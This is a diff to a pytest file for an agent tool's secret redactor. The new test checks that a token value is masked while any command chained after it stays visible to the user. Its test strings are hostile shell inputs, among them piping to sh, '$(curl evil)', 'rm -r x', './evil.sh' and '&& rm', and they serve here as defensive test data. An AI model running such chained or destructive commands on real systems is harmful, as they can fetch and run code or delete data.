@@ -9,8 +9,10 @@ from typing import Any
 import pytest
 
 from tests.cli.test_servers import command
-from xai_mcp_agent.secrets.redactor import AND_MORE, redact_args
+from xai_mcp_agent.canvas.trust import parts_text
+from xai_mcp_agent.secrets.redactor import redact_args
 from xai_mcp_agent.secrets.secrets import Secrets
+from xai_mcp_agent.settings.load import load_settings
 
 UNKNOWN = ("--no-check", "--", "some-server")
 
@@ -81,13 +83,25 @@ def test_what_cannot_be_written_is_not_shown_with_its_keys(folder: Path, capsys:
     assert key not in out + err
 
 
-@pytest.mark.parametrize(
-    "script",
-    ["API_TOKEN=x; touch OWNED", "API_TOKEN=x | sh", "API_TOKEN=$(curl evil)", "TOKEN=a\nrm -r x"],
-)
-def test_commands_behind_a_secret_are_told_where_they_are_not_shown(script: str) -> None:
-    shown = redact_args(["-c", script], Secrets())
-    assert shown[1].endswith(AND_MORE)
+SCRIPTS = {
+    "API_TOKEN=abcdefgh1; touch OWNED": "API_TOKEN=***; touch OWNED",
+    "API_TOKEN=abcdefgh1 touch OWNED": "API_TOKEN=*** touch OWNED",
+    "API_TOKEN=abcdefgh1|sh": "API_TOKEN=***|sh",
+    "API_TOKEN=$(curl evil)": "API_TOKEN=***(curl evil)",
+    "TOKEN=abcdefgh1\nrm -r x": "TOKEN=***\nrm -r x",
+    "API_TOKEN=token ./evil.sh": "API_TOKEN=*** ./evil.sh",
+    "TOKEN='abcdefgh1' KEY=hgfedcba2 && rm": "TOKEN='***' KEY=*** && rm",
+}
+
+
+@pytest.mark.parametrize("script", SCRIPTS)
+def test_a_command_behind_a_secret_is_shown(folder: Path, script: str) -> None:
+    """Nobody agrees to what they cannot see: neither in `discover` nor before a run."""
+    assert redact_args(["-c", script], Secrets())[1] == SCRIPTS[script]
+    loaded = load_settings(write(folder, {"it": {"command": "sh", "args": ["-c", script]}}))
+    told = parts_text(loaded.parts, loaded)
+    assert "abcdefgh1" not in told
+    assert SCRIPTS[script].rpartition("***")[2] in told
 
 
 def test_a_secret_alone_is_only_hidden() -> None:
